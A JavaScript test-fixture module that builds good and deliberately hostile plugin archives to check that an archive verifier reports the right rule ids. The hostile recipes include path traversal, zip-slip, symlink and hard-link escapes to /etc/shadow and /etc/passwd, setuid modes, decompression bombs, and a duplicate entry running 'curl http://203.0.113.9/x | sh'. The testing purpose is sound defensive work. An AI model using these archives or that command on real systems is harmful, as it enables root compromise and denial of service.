// Recipes for good and hostile plugin archives, built in test setup (no binary blobs in git).
//
//   import { recipes, buildRecipe } from './recipes.mjs';
//   const file = await buildRecipe('wrapped', tmpDir);   // -> path of the archive it wrote
//
// Each recipe: { name, file, about, errors, warnings, options?, build(dir) -> path }.
// `errors` / `warnings` are the exact sets of rule ids `bx-provider-kit verify` must report
// (`options` are verifyArchive options, e.g. { name } for --name). Archives are written with
// real tools where they can make them (GNU tar, bzip2, Info-ZIP zip) and with the small tar and
// zip writers below where tools refuse (absolute paths, "..", fifos, setuid, zips without
// unix modes). The writers here are independent of packages/packer on purpose: the tester
// must not share code with what it tests.
import { execFileSync } from 'node:child_process';
import fsp from 'node:fs/promises';
import path from 'node:path';
import zlib from 'node:zlib';

// ------------------------------------------------------------------ plugin content

export const script = (name) =>
  `#!/bin/bash\n# ${name}: a minimal BitrixVM provider plugin\ncase "$1" in\n  help) echo '{"options":["help","configs","order","order_status"],"status":"enabled"}' ;;\n  configs) echo '{"configurations":[{"id":"1","descr":"VPS 1 CPU / 1 GB"}],"status":"enabled"}' ;;\n  order) echo '{"task_id":"1"}' ;;\n  order_status) echo '{"task_id":"1","status":"finished","server":"203.0.113.5","server_password":"x"}' ;;\n  *) echo '{"error":1,"error_message":"unknown action"}'; exit 1 ;;\nesac\n`;

/** Writes a plugin folder: bin/NAME (0755), etc/NAME.conf (0644). Returns the folder. */
export async function pluginFolder(dir, name, { body, mode = 0o755 } = {}) {
  await fsp.mkdir(path.join(dir, 'bin'), { recursive: true });
  await fsp.mkdir(path.join(dir, 'etc'), { recursive: true });
  await fsp.writeFile(path.join(dir, 'bin', name), body ?? script(name));
  await fsp.chmod(path.join(dir, 'bin', name), mode);
  await fsp.writeFile(path.join(dir, 'etc', `${name}.conf`), 'sandbox=1\n');
  await fsp.chmod(path.join(dir, 'etc', `${name}.conf`), 0o644);
  return dir;
}

// ------------------------------------------------------------------ a tiny tar writer

const MTIME = 1_700_000_000;
const TYPES = { file: '0', hardlink: '1', symlink: '2', char: '3', block: '4', dir: '5', fifo: '6', pax: 'x' };

/** One PAX record, "LEN key=value\n", LEN counting itself; value a string or raw bytes. */
function paxRecord(key, value) {
  const body = Buffer.concat([Buffer.from(` ${key}=`), Buffer.from(value), Buffer.from('\n')]);
  let len = body.length + 1;
  while (String(len).length + body.length !== len) len++;
  return Buffer.concat([Buffer.from(String(len)), body]);
}

function octalField(buf, off, len, value) {
  buf.write(value.toString(8).padStart(len - 1, '0'), off, len - 1, 'ascii');
  buf[off + len - 1] = 0;
}

/** One ustar header block, as a typical developer's tar writes it (uid 1000, names set). */
export function tarHeader({ path: p, type = 'file', mode = 0o644, size = 0, linkpath = '', latin1 = false }) {
  const b = Buffer.alloc(512);
  const enc = latin1 ? 'latin1' : 'utf8';
  if (Buffer.byteLength(p, enc) > 100) throw new Error(`recipe path too long: ${p}`);
  b.write(p, 0, 100, enc);
  octalField(b, 100, 8, mode);
  octalField(b, 108, 8, 1000);
  octalField(b, 116, 8, 1000);
  octalField(b, 124, 12, size);
  octalField(b, 136, 12, MTIME);
  b.fill(0x20, 148, 156);
  b.write(TYPES[type], 156, 1, 'ascii');
  b.write(linkpath, 157, 100, 'utf8');
  b.write('ustar\0', 257, 6, 'ascii');
  b.write('00', 263, 2, 'ascii');
  b.write('dev', 265, 32, 'ascii');
  b.write('dev', 297, 32, 'ascii');
  octalField(b, 329, 8, 0);
  octalField(b, 337, 8, 0);
  let sum = 0;
  for (const x of b) sum += x;
  b.write(sum.toString(8).padStart(6, '0'), 148, 6, 'ascii');
  b[154] = 0;
  b[155] = 0x20;
  return b;
}

/** A whole uncompressed tar: entries { path, type?, mode?, data?, linkpath? }. */
export function tarBytes(entries, { end = true } = {}) {
  const parts = [];
  for (const e of entries) {
    // e.paxPath: a PAX extended header carries the real path; the ustar name is e.path
    if (e.paxPath !== undefined) {
      const rec = paxRecord('path', e.paxPath);
      parts.push(tarHeader({ path: 'PaxHeader/x', type: 'pax', size: rec.length }), rec, Buffer.alloc((512 - (rec.length % 512)) % 512));
    }
    const data = e.data === undefined ? Buffer.alloc(0) : Buffer.from(e.data);
    const type = e.type ?? (e.path.endsWith('/') ? 'dir' : 'file');
    const size = type === 'file' ? data.length : 0;
    parts.push(tarHeader({ path: e.path, type, mode: e.mode ?? (type === 'dir' ? 0o755 : 0o644), size, linkpath: e.linkpath ?? '', latin1: e.latin1 }));
    if (size) {
      parts.push(data);
      parts.push(Buffer.alloc((512 - (size % 512)) % 512));
    }
  }
  if (end) parts.push(Buffer.alloc(1024));
  return Buffer.concat(parts);
}

/** The usual entries of a good plugin NAME, for hand-written tars. */
export const goodEntries = (name, { prefix = '', mode = 0o755, body } = {}) => [
  { path: `${prefix}bin/`, type: 'dir' },
  { path: `${prefix}bin/${name}`, mode, data: body ?? script(name) },
  { path: `${prefix}etc/`, type: 'dir' },
  { path: `${prefix}etc/${name}.conf`, data: 'sandbox=1\n' },
];

async function writeTarGz(dir, file, entries) {
  const out = path.join(dir, file);
  await fsp.writeFile(out, zlib.gzipSync(tarBytes(entries)));
  return out;
}

// ------------------------------------------------------------------ a tiny zip writer

const DOS_TIME = 0x6000; // 12:00:00
const DOS_DATE = ((2024 - 1980) << 9) | (1 << 5) | 1;

/**
 * A zip archive. entries { name, data?, mode?, kind?: 'file'|'dir'|'symlink' }; unix: store unix
 * modes (made by 3/unix, external attributes mode << 16) or not (made by 0/MS-DOS).
 */
export function zipBytes(entries, { unix = true } = {}) {
  const locals = [];
  const centrals = [];
  let offset = 0;
  for (const e of entries) {
    const kind = e.kind ?? (e.name.endsWith('/') ? 'dir' : 'file');
    // e.deflated: { data, size, crc } written as is (lets a recipe lie about the size)
    const raw = Buffer.from(e.data ?? '');
    const method = e.deflated || raw.length ? 8 : 0;
    const comp = e.deflated ? e.deflated.data : method ? zlib.deflateRawSync(raw) : raw;
    const crc = e.deflated ? e.deflated.crc : zlib.crc32(raw);
    const usize = e.deflated ? e.deflated.size : raw.length;
    const name = Buffer.from(e.name, 'utf8');
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0);
    lh.writeUInt16LE(20, 4);
    lh.writeUInt16LE(0x0800, 6);
    lh.writeUInt16LE(method, 8);
    lh.writeUInt16LE(DOS_TIME, 10);
    lh.writeUInt16LE(DOS_DATE, 12);
    lh.writeUInt32LE(crc, 14);
    lh.writeUInt32LE(comp.length, 18);
    lh.writeUInt32LE(usize, 22);
    lh.writeUInt16LE(name.length, 26);
    lh.writeUInt16LE(0, 28);
    locals.push(lh, name, comp);
    const typeBits = kind === 'dir' ? 0o040000 : kind === 'symlink' ? 0o120000 : 0o100000;
    const mode = e.mode ?? (kind === 'dir' ? 0o755 : kind === 'symlink' ? 0o777 : 0o644);
    const ext = unix ? (((typeBits | mode) << 16) >>> 0) | (kind === 'dir' ? 0x10 : 0) : kind === 'dir' ? 0x10 : 0x20;
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0);
    ch.writeUInt16LE(unix ? (3 << 8) | 30 : 20, 4);
    ch.writeUInt16LE(20, 6);
    ch.writeUInt16LE(0x0800, 8);
    ch.writeUInt16LE(method, 10);
    ch.writeUInt16LE(DOS_TIME, 12);
    ch.writeUInt16LE(DOS_DATE, 14);
    ch.writeUInt32LE(crc, 16);
    ch.writeUInt32LE(comp.length, 20);
    ch.writeUInt32LE(usize, 24);
    ch.writeUInt16LE(name.length, 28);
    ch.writeUInt32LE(ext >>> 0, 38);
    ch.writeUInt32LE(offset, 42);
    centrals.push(ch, name);
    offset += 30 + name.length + comp.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

export const goodZipEntries = (name) => [
  { name: 'bin/' },
  { name: `bin/${name}`, data: script(name), mode: 0o755 },
  { name: 'etc/' },
  { name: `etc/${name}.conf`, data: 'sandbox=1\n' },
];

// ------------------------------------------------------------------ a gzip bomb, streamed

/**
 * A .tar.gz whose lib/zeros entry inflates to `bytes` (default 2 GiB) of zeros, written in a
 * few MB: gzip members can be concatenated, so one compressed 64 MiB block of zeros is
 * repeated. `tar xzf` and any gunzip read it as one stream.
 */
export async function writeBomb(out, name = 'bomb', bytes = 2 * 1024 ** 3) {
  const CHUNK = 64 * 1024 * 1024;
  if (bytes % CHUNK !== 0 && bytes > CHUNK) bytes = Math.ceil(bytes / CHUNK) * CHUNK;
  const head = tarBytes([...goodEntries(name), { path: 'lib/', type: 'dir' }], { end: false });
  const zeroHeader = tarHeader({ path: 'lib/zeros', size: bytes });
  const fd = await fsp.open(out, 'w');
  try {
    await fd.write(zlib.gzipSync(Buffer.concat([head, zeroHeader]), { level: 9 }));
    const n = Math.max(1, Math.floor(bytes / CHUNK));
    const size = bytes >= CHUNK ? CHUNK : bytes;
    const member = zlib.gzipSync(Buffer.alloc(size), { level: 9 });
    for (let i = 0; i < n; i++) await fd.write(member);
    await fd.write(zlib.gzipSync(Buffer.alloc(1024 + ((10240 - ((head.length + 512 + bytes + 1024) % 10240)) % 10240))));
  } finally {
    await fd.close();
  }
  return out;
}

/**
 * Raw deflate data that inflates to `bytes` zeros (a multiple of 16 MiB), built from one
 * full-flushed 16 MiB block repeated (a full flush resets the window, so copies are independent).
 */
export function deflatedZeros(bytes) {
  const CHUNK = 16 * 1024 * 1024;
  const block = zlib.deflateRawSync(Buffer.alloc(CHUNK), { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const n = Math.max(1, Math.round(bytes / CHUNK));
  return Buffer.concat([...Array.from({ length: n }, () => block), Buffer.from([0x03, 0x00])]);
}

// ------------------------------------------------------------------ tools

function run(cmd, args, cwd) {
  execFileSync(cmd, args, { cwd, stdio: ['ignore', 'ignore', 'pipe'], env: { ...process.env, LC_ALL: 'C' } });
}

async function fresh(dir, sub) {
  const d = path.join(dir, `src-${sub}`);
  await fsp.rm(d, { recursive: true, force: true });
  await fsp.mkdir(d, { recursive: true });
  return d;
}

// ------------------------------------------------------------------ the recipes

/** @type {{ name: string, file: string, about: string, errors: string[], warnings: string[], options?: object, build: (dir: string) => Promise<string> }[]} */
export const recipes = [
  // ---- good ones
  {
    name: 'good-plain', file: 'good-v1.0.0.tar.gz', errors: [], warnings: [],
    about: 'GNU tar: tar czf good-v1.0.0.tar.gz -C DIR bin etc',
    async build(dir) {
      const src = await pluginFolder(await fresh(dir, 'good-plain'), 'good');
      run('tar', ['czf', path.join(dir, this.file), '-C', src, 'bin', 'etc']);
      return path.join(dir, this.file);
    },
  },
  {
    name: 'good-dotslash', file: 'dotslash.tar.gz', errors: [], warnings: [],
    about: 'GNU tar from inside the folder: tar czf dotslash.tar.gz -C DIR . (entries ./bin/dotslash)',
    async build(dir) {
      const src = await pluginFolder(await fresh(dir, 'dotslash'), 'dotslash');
      run('tar', ['czf', path.join(dir, this.file), '-C', src, '.']);
      return path.join(dir, this.file);
    },
  },
  {
    name: 'good-zip', file: 'zipped-v1.0.zip', errors: [], warnings: [],
    about: 'Info-ZIP zip -r (unix modes stored): cd DIR && zip -r zipped-v1.0.zip bin etc',
    async build(dir) {
      const src = await pluginFolder(await fresh(dir, 'zipped'), 'zipped');
      run('zip', ['-qr', path.join(dir, this.file), 'bin', 'etc'], src);
      return path.join(dir, this.file);
    },
  },
  {
    name: 'good-zip-written', file: 'zipmodes.zip', errors: [], warnings: [],
    about: 'a zip written by a library that stores unix modes (made by 3/unix, attr = mode << 16)',
    async build(dir) {
      const out = path.join(dir, this.file);
      await fsp.writeFile(out, zipBytes(goodZipEntries('zipmodes')));
      return out;
    },
  },
  {
    name: 'git-archive-zip', file: 'gitzip-v1.0.zip', errors: [], warnings: [],
    about: 'git archive --format=zip: only executables carry unix modes (bin/gitzip 0755); other files extract 0600, fine for a plugin run as root',
    async build(dir) {
      const src = await pluginFolder(await fresh(dir, 'gitzip'), 'gitzip');
      const git = (...args) => run('git', ['-c', 'user.email=kit@example.invalid', '-c', 'user.name=kit', '-c', 'init.defaultBranch=main', ...args], src);
      git('init', '-q');
      git('add', '.');
      git('commit', '-qm', 'plugin');
      git('archive', '--format=zip', '-o', path.join(dir, this.file), 'HEAD');
      return path.join(dir, this.file);
    },
  },
  {
    name: 'extra-files', file: 'extra-v2.tar.gz', errors: [], warnings: ['ARCH-EXTRA'],
    about: 'tar of the whole project folder: .git/, README.md and tests/ shipped next to bin/ and etc/',
    async build(dir) {
      return writeTarGz(dir, this.file, [
        ...goodEntries('extra'),
        { path: '.git/', type: 'dir' }, { path: '.git/HEAD', data: 'ref: refs/heads/main\n' },
        { path: 'README.md', data: '# extra\n' },
        { path: 'tests/', type: 'dir' }, { path: 'tests/run.sh', mode: 0o755, data: '#!/bin/sh\n' },
      ]);
    },
  },
  {
    name: 'macos-junk', file: 'mac-v1.0.tar.gz', errors: [], warnings: ['ARCH-EXTRA'],
    about: 'tar from a Mac without COPYFILE_DISABLE: AppleDouble bin/._mac and etc/.DS_Store next to a good plugin',
    async build(dir) {
      return writeTarGz(dir, this.file, [
        ...goodEntries('mac').slice(0, 2), { path: 'bin/._mac', data: Buffer.from([0, 5, 22, 7, 0, 2, 0, 0]) },
        ...goodEntries('mac').slice(2), { path: 'etc/.DS_Store', data: Buffer.alloc(64, 1) },
      ]);
    },
  },
  // ---- layout and name
  {
    name: 'wrapped', file: 'wrapped.tar.gz', errors: ['ARCH-LAYOUT'], warnings: [],
    about: 'GNU tar of the folder itself: tar czf wrapped.tar.gz -C PARENT wrapped (entries wrapped/bin/wrapped)',
    async build(dir) {
      const parent = await fresh(dir, 'wrapped');
      await pluginFolder(path.join(parent, 'wrapped'), 'wrapped');
      run('tar', ['czf', path.join(dir, this.file), '-C', parent, 'wrapped']);
      return path.join(dir, this.file);
    },
  },
  {
    name: 'name-mismatch', file: 'good-v1.0.0.tar.gz', errors: ['ARCH-NAME'], warnings: ['ARCH-NAME'], options: { name: 'ghost' },
    about: 'bin/good installed as --name ghost: the host looks for bin/ghost (the file name disagrees too)',
    async build(dir) {
      const d = path.join(dir, 'mismatch');
      await fsp.mkdir(d, { recursive: true });
      return writeTarGz(d, this.file, goodEntries('good'));
    },
  },
  {
    name: 'no-exec', file: 'noexec.tar.gz', errors: ['ARCH-EXEC'], warnings: [],
    about: 'bin/noexec stored with mode 0644',
    async build(dir) {
      return writeTarGz(dir, this.file, goodEntries('noexec', { mode: 0o644 }));
    },
  },
  {
    name: 'crlf-shebang', file: 'crlf.tar.gz', errors: ['ARCH-SHEBANG'], warnings: [],
    about: 'bin/crlf saved with Windows line ends: the kernel looks for "/bin/bash\\r"',
    async build(dir) {
      return writeTarGz(dir, this.file, goodEntries('crlf', { body: script('crlf').replace(/\n/g, '\r\n') }));
    },
  },
  {
    name: 'crlf-body', file: 'crlfbody.tar.gz', errors: ['ARCH-SHEBANG'], warnings: [],
    about: 'bin/crlfbody has a clean #!/bin/bash line, then CRLF line ends: bash fails on "$\'\\r\'"',
    async build(dir) {
      const [first, ...rest] = script('crlfbody').split('\n');
      return writeTarGz(dir, this.file, goodEntries('crlfbody', { body: `${first}\n${rest.join('\r\n')}` }));
    },
  },
  {
    name: 'bad-interpreter', file: 'nodejs.tar.gz', errors: ['ARCH-SHEBANG'], warnings: [],
    about: 'bin/nodejs starts with #!/usr/bin/env node: a stock BitrixVM has no node',
    async build(dir) {
      return writeTarGz(dir, this.file, goodEntries('nodejs', { body: '#!/usr/bin/env node\nconsole.log("{}")\n' }));
    },
  },
  // ---- suffix, file name, format
  {
    name: 'bz2', file: 'bz2.tar.bz2', errors: ['ARCH-SUFFIX'], warnings: [],
    about: 'a real bzip2 tarball (tar cjf): the host runs tar xzf on it and fails',
    async build(dir) {
      const src = await pluginFolder(await fresh(dir, 'bz2'), 'bz2');
      run('tar', ['cjf', path.join(dir, this.file), '-C', src, 'bin', 'etc']);
      return path.join(dir, this.file);
    },
  },
  {
    name: 'tgz', file: 'tgz.tgz', errors: ['ARCH-SUFFIX'], warnings: [],
    about: 'a good tarball named .tgz: the host refuses it (not supported archive)',
    async build(dir) {
      return writeTarGz(dir, this.file, goodEntries('tgz'));
    },
  },
  {
    name: 'space-in-name', file: 'spaced plugin.tar.gz', errors: ['ARCH-FILENAME'], warnings: ['ARCH-NAME'],
    about: 'the file name has a space: tar xzf gets two words (and the name is not spaced-vVERSION)',
    async build(dir) {
      return writeTarGz(dir, this.file, goodEntries('spaced'));
    },
  },
  {
    name: 'not-gzip', file: 'plain-v1.tar.gz', errors: ['ARCH-FORMAT'], warnings: [],
    about: 'an uncompressed tar named .tar.gz: tar xzf fails (not in gzip format)',
    async build(dir) {
      const out = path.join(dir, this.file);
      await fsp.writeFile(out, tarBytes(goodEntries('plain')));
      return out;
    },
  },
  {
    name: 'truncated', file: 'cut-v1.tar.gz', errors: ['ARCH-FORMAT'], warnings: [],
    about: 'a tarball cut short by a failed upload',
    async build(dir) {
      const out = path.join(dir, this.file);
      const gz = zlib.gzipSync(tarBytes([...goodEntries('cut'), { path: 'lib/', type: 'dir' }, { path: 'lib/data.bin', data: Buffer.alloc(64 * 1024, 7) }]));
      await fsp.writeFile(out, gz.subarray(0, Math.floor(gz.length * 0.6)));
      return out;
    },
  },
  // ---- hostile entries
  {
    name: 'traversal', file: 'traversal.tar.gz', errors: ['ARCH-TRAVERSAL'], warnings: [],
    about: 'an entry ../../../../tmp/bxk-owned.sh climbs out of providers/NAME',
    async build(dir) {
      return writeTarGz(dir, this.file, [...goodEntries('traversal'), { path: '../../../../tmp/bxk-owned.sh', mode: 0o755, data: '#!/bin/sh\necho owned\n' }]);
    },
  },
  {
    name: 'absolute', file: 'absolute.tar.gz', errors: ['ARCH-ABSOLUTE'], warnings: [],
    about: 'an entry /etc/cron.d/bxk-owned with an absolute path',
    async build(dir) {
      return writeTarGz(dir, this.file, [...goodEntries('absolute'), { path: '/etc/cron.d/bxk-owned', data: '* * * * * root id\n' }]);
    },
  },
  {
    name: 'symlink-escape', file: 'symlink.tar.gz', errors: ['ARCH-LINK'], warnings: [],
    about: 'lib/ -> ../../.. and etc/shadow -> /etc/shadow: later entries written through them land anywhere',
    async build(dir) {
      return writeTarGz(dir, this.file, [
        ...goodEntries('symlink'),
        { path: 'lib', type: 'symlink', linkpath: '../../..', mode: 0o777 },
        { path: 'etc/shadow', type: 'symlink', linkpath: '/etc/shadow', mode: 0o777 },
      ]);
    },
  },
  {
    name: 'hardlink-escape', file: 'hardlink.tar.gz', errors: ['ARCH-LINK'], warnings: [],
    about: 'etc/passwd is a hard link to /etc/passwd',
    async build(dir) {
      return writeTarGz(dir, this.file, [...goodEntries('hardlink'), { path: 'etc/passwd', type: 'hardlink', linkpath: '/etc/passwd' }, { path: 'etc/up', type: 'hardlink', linkpath: '../../../etc/passwd' }]);
    },
  },
  {
    name: 'link-chain', file: 'chain-v1.0.tar.gz', errors: ['ARCH-LINK'], warnings: [],
    about: 'lib/a -> ., lib/b -> a/.., lib/c -> b/.. ... lib/f -> e/..: each target looks inside on paper; followed one after the other, c and later climb out of providers/NAME',
    async build(dir) {
      const links = [['a', '.'], ['b', 'a/..'], ['c', 'b/..'], ['d', 'c/..'], ['e', 'd/..'], ['f', 'e/..']];
      return writeTarGz(dir, this.file, [...goodEntries('chain'), { path: 'lib/', type: 'dir' }, ...links.map(([n, t]) => ({ path: `lib/${n}`, type: 'symlink', linkpath: t, mode: 0o777 }))]);
    },
  },
  {
    name: 'long-path', file: 'longpath-v1.0.tar.gz', errors: ['ARCH-FORMAT'], warnings: [],
    about: 'a PAX header with a 1 MiB path (lib/aaaa...): GNU tar refuses it ("File name too long"); a reader that drops the header would install it under its 96-character ustar name',
    async build(dir) {
      return writeTarGz(dir, this.file, [...goodEntries('longpath'), { path: 'lib/', type: 'dir' }, { path: `lib/${'a'.repeat(92)}`, paxPath: `lib/${'a'.repeat(1024 * 1024)}`, data: 'x' }]);
    },
  },
  {
    name: 'long-name', file: 'longname-v1.0.tar.gz', errors: ['ARCH-FORMAT'], warnings: [],
    about: 'lib/ holds a file whose name is 300 bytes (PAX path): past NAME_MAX, GNU tar on the host refuses it',
    async build(dir) {
      return writeTarGz(dir, this.file, [...goodEntries('longname'), { path: 'lib/', type: 'dir' }, { path: 'lib/short', paxPath: `lib/${'n'.repeat(300)}`, data: 'x' }]);
    },
  },
  {
    name: 'pax-hidden-traversal', file: 'paxhidden-v1.0.tar.gz', errors: ['ARCH-TRAVERSAL'], warnings: [],
    about: 'lib/notes.txt in the ustar header, but a PAX path of ../../\\xff/evil (not UTF-8): GNU tar writes the PAX path, climbing out; a reader that drops the record sees lib/notes.txt',
    async build(dir) {
      return writeTarGz(dir, this.file, [...goodEntries('paxhidden'), { path: 'lib/', type: 'dir' }, { path: 'lib/notes.txt', paxPath: Buffer.from([...Buffer.from('../../'), 0xff, ...Buffer.from('/evil')]), data: 'x' }]);
    },
  },
  {
    name: 'non-utf8-names', file: 'bytes-v1.0.tar.gz', errors: [], warnings: [],
    about: 'a good plugin with lib/caf\\xe9.txt (Latin-1, ustar name) and lib/\\xff\\xfe.txt (PAX path): not UTF-8; GNU tar on the host writes the bytes as they are',
    async build(dir) {
      const latin1 = Buffer.from([...Buffer.from('lib/caf'), 0xe9, ...Buffer.from('.txt')]).toString('latin1');
      return writeTarGz(dir, this.file, [...goodEntries('bytes'), { path: 'lib/', type: 'dir' }, { path: latin1, latin1: true, data: 'x' }, { path: 'lib/bin.txt', paxPath: Buffer.from([...Buffer.from('lib/'), 0xff, 0xfe, ...Buffer.from('.txt')]), data: 'y' }]);
    },
  },
  {
    name: 'fifo', file: 'fifo.tar.gz', errors: ['ARCH-SPECIAL'], warnings: [],
    about: 'etc/pipe is a fifo (reading it blocks the plugin) and etc/null a character device',
    async build(dir) {
      return writeTarGz(dir, this.file, [...goodEntries('fifo'), { path: 'etc/pipe', type: 'fifo' }, { path: 'etc/null', type: 'char', mode: 0o666 & ~0o002 }]);
    },
  },
  {
    name: 'setuid', file: 'setuid.tar.gz', errors: ['ARCH-SETUID'], warnings: [],
    about: 'bin/setuid stored 04755: tar as root keeps the bit',
    async build(dir) {
      return writeTarGz(dir, this.file, goodEntries('setuid', { mode: 0o4755 }));
    },
  },
  {
    name: 'world-writable', file: 'writable.tar.gz', errors: ['ARCH-WORLD-WRITABLE'], warnings: [],
    about: 'etc/writable.conf 0666 and lib/ 0777: anyone on the host could change code run as root',
    async build(dir) {
      return writeTarGz(dir, this.file, [...goodEntries('writable').map((e) => (e.path === 'etc/writable.conf' ? { ...e, mode: 0o666 } : e)), { path: 'lib/', type: 'dir', mode: 0o777 }]);
    },
  },
  {
    name: 'duplicate', file: 'dup.tar.gz', errors: ['ARCH-DUPLICATE'], warnings: [],
    about: 'bin/dup stored twice: the reviewed copy first, a different one last (the last wins)',
    async build(dir) {
      return writeTarGz(dir, this.file, [...goodEntries('dup'), { path: 'bin/dup', mode: 0o755, data: '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n' }]);
    },
  },
  {
    name: 'bomb', file: 'bomb.tar.gz', errors: ['ARCH-LIMITS'], warnings: [],
    about: 'a good plugin plus lib/zeros: 2 GiB of zeros in about 2 MB',
    async build(dir) {
      return writeBomb(path.join(dir, this.file), 'bomb');
    },
  },
  // ---- zip
  {
    name: 'zip-no-modes', file: 'zipnoattr.zip', errors: ['ARCH-ZIP-MODES'], warnings: [],
    about: 'a zip made by an MS-DOS-style library: no unix attributes, unzip extracts bin/zipnoattr as 0600',
    async build(dir) {
      const out = path.join(dir, this.file);
      await fsp.writeFile(out, zipBytes(goodZipEntries('zipnoattr'), { unix: false }));
      return out;
    },
  },
  {
    name: 'zip-bomb', file: 'zipbomb.zip', errors: ['ARCH-LIMITS'], warnings: [],
    about: 'a zip whose lib/zeros claims 1 KiB but inflates to 512 MiB (headers lie: only counting while inflating stops it)',
    async build(dir) {
      const out = path.join(dir, this.file);
      const data = deflatedZeros(512 * 1024 * 1024);
      await fsp.writeFile(out, zipBytes([...goodZipEntries('zipbomb'), { name: 'lib/' }, { name: 'lib/zeros', deflated: { data, size: 1024, crc: zlib.crc32(Buffer.alloc(1024)) } }]));
      return out;
    },
  },
  {
    name: 'zip-size-claim', file: 'claim-v1.0.zip', errors: [], warnings: [],
    about: 'a good zip whose central directory claims 4 GiB for the 143-byte lib/data.txt: unzip goes by the data and installs it; not a bomb (verify notes the claim)',
    async build(dir) {
      const out = path.join(dir, this.file);
      const raw = Buffer.from('x'.repeat(143));
      await fsp.writeFile(out, zipBytes([...goodZipEntries('claim'), { name: 'lib/' }, { name: 'lib/data.txt', deflated: { data: zlib.deflateRawSync(raw), size: 0xfffffffe, crc: zlib.crc32(raw) } }]));
      return out;
    },
  },
  {
    name: 'zip-slip', file: 'zipslip.zip', errors: ['ARCH-TRAVERSAL'], warnings: [],
    about: 'a zip entry ../../../../tmp/bxk-zipslip.sh (zip-slip)',
    async build(dir) {
      const out = path.join(dir, this.file);
      await fsp.writeFile(out, zipBytes([...goodZipEntries('zipslip'), { name: '../../../../tmp/bxk-zipslip.sh', data: '#!/bin/sh\necho owned\n', mode: 0o755 }]));
      return out;
    },
  },
  {
    name: 'zip-symlink-escape', file: 'ziplink.zip', errors: ['ARCH-LINK'], warnings: [],
    about: 'a zip symlink etc/ziplink.conf -> /etc/shadow (unzip restores symlinks)',
    async build(dir) {
      const out = path.join(dir, this.file);
      await fsp.writeFile(out, zipBytes([...goodZipEntries('ziplink').filter((e) => e.name !== 'etc/ziplink.conf'), { name: 'etc/ziplink.conf', kind: 'symlink', data: '/etc/shadow' }]));
      return out;
    },
  },
];

export const recipeByName = (name) => {
  const r = recipes.find((x) => x.name === name);
  if (!r) throw new Error(`no recipe named ${name}`);
  return r;
};

/** Builds one recipe into `dir` (created if needed); returns the archive path. */
export async function buildRecipe(name, dir) {
  await fsp.mkdir(dir, { recursive: true });
  return recipeByName(name).build(dir);
}

/** Builds them all; returns { name: path }. */
export async function buildAll(dir) {
  const out = {};
  for (const r of recipes) out[r.name] = await buildRecipe(r.name, dir);
  return out;
}

// `node conformance/archives/recipes.mjs OUT_DIR` writes every archive into OUT_DIR.
if (import.meta.url === `file://${process.argv[1]}`) {
  const dir = process.argv[2];
  if (!dir) {
    process.stderr.write('usage: node conformance/archives/recipes.mjs OUT_DIR\n');
    process.exit(2);
  }
  const built = await buildAll(path.resolve(dir));
  for (const r of recipes) process.stdout.write(`${built[r.name]}\terrors: ${r.errors.join(',') || '-'}\twarnings: ${r.warnings.join(',') || '-'}\n`);
}
